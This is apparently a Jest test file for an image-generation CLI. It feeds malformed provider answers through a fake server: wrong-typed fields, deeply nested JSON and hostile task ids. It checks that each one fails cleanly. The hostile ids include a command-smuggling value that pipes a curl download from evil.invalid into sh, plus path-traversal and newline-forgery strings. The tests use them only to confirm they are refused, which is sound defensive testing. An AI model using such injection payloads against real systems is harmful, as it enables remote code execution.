/**
 * Provider answers of the wrong shape, replayed through the fake server: values of the wrong type, nesting deep
 * enough to overflow a recursive reader, and task ids that would change the URL they go into or the command a
 * hint suggests. Each is a typed, clear failure (so `edit` still finishes locally), and the key goes nowhere
 * but the documented paths.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { Jimp } from 'jimp';
import { runEdit, type EditSpec } from '../src/jobs/edit.js';
import { runGenerate } from '../src/jobs/generate.js';
import { providerContext, taskLimits } from '../src/jobs/providers.js';
import { runTask, type TaskSpec } from '../src/jobs/task.js';
import { findProvider } from '../src/providers/registry.js';
import { isTaskId } from '../src/providers/shared/answer.js';
import type { FakeProviders, RecordedRequest, Reply } from './helpers/fake-providers.js';
import { providerHarness, startFake } from './helpers/provider-setup.js';
import { tempDir, tempDirsPerTest } from './helpers/tmp.js';

let fake: FakeProviders;
/** A small picture, quick to prepare for either provider. */
let picture = '';
const pictureDir = tempDir();
beforeAll(async () => {
  fake = await startFake();
  picture = path.join(pictureDir.dir, 'small.png');
  const data = Buffer.from(new Uint8Array(96 * 64 * 4).map((_, i) => (i % 4 === 3 ? 255 : (i * 37) % 256)));
  writeFileSync(picture, await new Jimp({ width: 96, height: 64, data }).getBuffer('image/png'));
});
afterAll(async () => {
  pictureDir.cleanup();
  await fake.close();
});

/** JSON text of `{"prefix": [[[…]]]}` nested `depth` deep, built as text (a recursive stringify would overflow). */
function deeplyNested(prefix: string, depth: number, suffix = ''): string {
  return `${prefix}${'['.repeat(depth)}${']'.repeat(depth)}${suffix}`;
}

/** Every request the fake saw went to a documented path of its provider. */
function onlyDocumentedPaths(requests: RecordedRequest[]): void {
  const documented = [
    /^\/api\/v1\/services\/aigc\/image2image\/image-synthesis$/,
    /^\/api\/v1\/tasks\/[A-Za-z0-9._-]+(\/cancel)?$/,
    /^\/v1\/images\/generations$/,
    /^\/v1\/tasks\/[A-Za-z0-9._-]+$/,
    /^\/results\//,
  ];
  for (const r of requests) {
    expect(r.path).toMatch(documented.find((re) => re.test(r.path)) ?? /^documented path$/);
    expect(r.path.split('/')).not.toContain('..');
  }
}

const HOSTILE_IDS: unknown[] = [
  '..',
  '.',
  '../../v1/images/generations',
  'abc;curl https://evil.invalid/x|sh',
  'abc\nerror: forged line',
  'a/b',
  'a%2F..',
  'x'.repeat(129),
  '',
  12.5,
  { id: 'abc' },
  ['abc'],
];

describe('provider answers of the wrong shape', () => {
  const setup = tempDirsPerTest();
  afterEach(() => {
    fake.requests = [];
    fake.dashscopeSubmitReplies = [];
    fake.modelscopeSubmitReplies = [];
    fake.dashscopeSteps = ['PENDING', 'RUNNING', 'SUCCEEDED'];
    fake.modelscopeSteps = ['PENDING', 'PROCESSING', 'SUCCEED'];
  });

  async function edit(provider: 'dashscope' | 'modelscope', fallback = true) {
    const dir = setup();
    const h = providerHarness(fake, dir);
    const spec: EditSpec = {
      inputs: [picture],
      style: 'loom',
      local: false,
      provider,
      fallback,
      dryRun: false,
      force: false,
      report: true,
      instruction: {},
    };
    const error = await runEdit(spec, h.resolved, h.services).then(
      () => undefined,
      (err: unknown) => err as Error & Record<string, unknown>,
    );
    return { ...h, error };
  }

  it('a DashScope task FAILED with a numeric code is a task failure: the local fallback still runs', async () => {
    fake.dashscopeSteps = [{ status: 'FAILED', code: 500, message: 'the model crashed' }];
    const fell = await edit('dashscope');
    expect(fell.error).toBeUndefined();
    expect(fell.rec.results[0]).toMatchObject({
      source: 'local-fallback',
      remoteError: { kind: 'failure', code: '500', message: 'DashScope 500: the model crashed' },
    });
    const strict = await edit('dashscope', false);
    expect(strict.error).toMatchObject({ kind: 'failure', code: '500' });
  });

  it('a code or message that is neither a string nor a number is left out, on both providers', async () => {
    const deep = deeplyNested('', 100_000);
    fake.dashscopeSteps = [
      { status: 200, body: `{"output":{"task_status":"FAILED","code":${deep},"message":{"a":1}},"request_id":7}` },
    ];
    fake.modelscopeSteps = [
      { status: 200, body: `{"task_status":"FAILED","errors":{"code":${deep},"message":[1]},"request_id":[]}` },
    ];
    for (const provider of ['dashscope', 'modelscope'] as const) {
      const strict = await edit(provider, false);
      expect(strict.error).toMatchObject({ kind: 'failure', message: expect.stringContaining('the task failed') });
      expect(strict.error?.code).toBeUndefined();
      expect(strict.error?.requestId).toBeUndefined();
    }
  });

  it('a deeply nested task status is a malformed answer, not a stack overflow, on both providers', async () => {
    fake.dashscopeSteps = [{ status: 200, body: deeplyNested('{"output":{"task_status":', 200_000, '}}') }];
    fake.modelscopeSteps = [{ status: 200, body: deeplyNested('{"task_status":', 200_000, '}') }];
    for (const provider of ['dashscope', 'modelscope'] as const) {
      const fell = await edit(provider);
      expect(fell.error).toBeUndefined();
      expect(fell.rec.results[0]).toMatchObject({
        source: 'local-fallback',
        remoteError: { kind: 'failure', code: 'MalformedAnswer', message: expect.stringContaining('task_status') },
      });
      const strict = await edit(provider, false);
      expect(strict.error).toMatchObject({ kind: 'failure', code: 'MalformedAnswer' });
    }
  });

  it('a status of another type, or results that are not objects, are malformed answers too', async () => {
    const replies: Reply[] = [
      { status: 200, body: { output: { task_status: { nested: 'SUCCEEDED' } } } },
      { status: 200, body: { output: { task_status: 42 } } },
      { status: 200, body: { output: { task_status: 'x'.repeat(5000) } } },
      { status: 200, body: { output: { task_status: 'SUCCEEDED', results: [null, 7, 'https://x.invalid/a.png'] } } },
    ];
    for (const reply of replies) {
      fake.dashscopeSteps = [reply];
      const strict = await edit('dashscope', false);
      expect(strict.error).toMatchObject({ kind: 'failure' });
      expect(strict.error).toBeInstanceOf(Error);
      expect((strict.error as { code?: string }).code).toMatch(/^(MalformedAnswer|NoResult)$/);
    }
    fake.modelscopeSteps = [{ status: 200, body: { task_status: 'SUCCEED', output_images: [null, { u: 1 }] } }];
    const ms = await edit('modelscope', false);
    expect(ms.error).toMatchObject({ kind: 'failure', code: 'NoResult' });
  });

  it('a submit answered with a task id that is not one is refused before any poll, on both providers', async () => {
    // DashScope's picture takes longer to prepare, so it gets the first five; both read ids through one check.
    for (const [i, id] of HOSTILE_IDS.entries()) {
      fake.dashscopeSubmitReplies = [{ status: 200, body: { output: { task_id: id, task_status: 'PENDING' } } }];
      fake.modelscopeSubmitReplies = [{ status: 200, body: { task_id: id } }];
      for (const provider of i < 5 ? (['dashscope', 'modelscope'] as const) : (['modelscope'] as const)) {
        fake.requests = [];
        const strict = await edit(provider, false);
        expect(strict.error).toMatchObject({ kind: 'failure', code: 'MalformedAnswer' });
        // A task may exist: the error says so rather than pretending nothing was made.
        expect(strict.error?.hint).toContain('a task may have been created');
        // Nothing was polled, so the key went only to the submit.
        expect(fake.requests.map((r) => r.method)).toEqual(['POST']);
        onlyDocumentedPaths(fake.requests);
        // The id is shown only quoted, on one line, and never in a command to run.
        const shown = [strict.error?.message, strict.error?.hint, ...Object.values(strict.rec.lines).flat()];
        for (const text of shown) {
          expect(text).not.toContain('\n');
          expect(text).not.toContain('imagegen task');
        }
      }
    }
  });

  it('generate refuses the same ids from ModelScope', async () => {
    const dir = setup();
    const h = providerHarness(fake, dir);
    fake.modelscopeSubmitReplies = [{ status: 200, body: { task_id: '..' } }];
    const err = await runGenerate(
      { prompt: 'a fox', options: {}, keepOriginal: false, dryRun: false, force: false, report: true },
      h.resolved,
      h.services,
    ).catch((e: unknown) => e);
    expect(err).toMatchObject({ kind: 'failure', code: 'MalformedAnswer' });
    expect(fake.requests.map((r) => `${r.method} ${r.path}`)).toEqual(['POST /v1/images/generations']);
  });
});

describe('task ids typed by the user, or read back from a journal', () => {
  const setup = tempDirsPerTest();
  afterEach(() => {
    fake.requests = [];
  });
  const spec = (action: TaskSpec['action'], ref: string): TaskSpec => ({
    action,
    ref,
    style: 'loom',
    force: false,
    report: true,
  });

  it('task show, wait and cancel refuse an id outside [A-Za-z0-9._-] (or . and ..) with exit 2, sending nothing', async () => {
    const h = providerHarness(fake, setup());
    const refs = [
      'dashscope:..',
      'dashscope:.',
      'modelscope:..',
      'dashscope:../../services/aigc/image2image/image-synthesis',
      'dashscope:abc;curl https://evil.invalid|sh',
      'modelscope:a%2F..',
      `dashscope:${'x'.repeat(129)}`,
      'dashscope:abc\nforged',
    ];
    for (const ref of refs) {
      for (const action of ['show', 'wait', 'cancel'] as const) {
        const err = await runTask(spec(action, ref), h.resolved, h.services).catch((e: unknown) => e);
        expect(err).toMatchObject({ kind: 'usage', message: expect.stringContaining('is not a task id') });
      }
    }
    expect(fake.requests).toEqual([]);
  });

  it('a client refuses to poll, wait for or cancel an id that is not one, whoever gave it (a journal, say)', async () => {
    const h = providerHarness(fake, setup());
    for (const id of ['dashscope', 'modelscope'] as const) {
      const provider = findProvider(id)!;
      const ctx = providerContext(provider, h.resolved, h.services, taskLimits(h.resolved));
      const client = (await provider.load()).task!;
      await expect(client.check('..', ctx)).rejects.toMatchObject({ kind: 'failure', code: 'BadTaskId' });
      await expect(client.wait('..', ctx)).rejects.toMatchObject({ kind: 'failure', code: 'BadTaskId' });
      if (client.cancel) await expect(client.cancel('..', ctx)).resolves.toBe(false);
    }
    expect(fake.requests).toEqual([]);
  });

  it('accepts the ids the services give', () => {
    for (const id of ['0385dc79-5ff8-4d82-bcb6-0d4f6c2ebd9a', '7000123', 'ms-task-1.v2_x', 'a'.repeat(128)])
      expect(isTaskId(id)).toBe(true);
    for (const id of ['', '.', '..', 'a b', 'a/b', 'a\nb', 'ä', 'a'.repeat(129)]) expect(isTaskId(id)).toBe(false);
  });
});
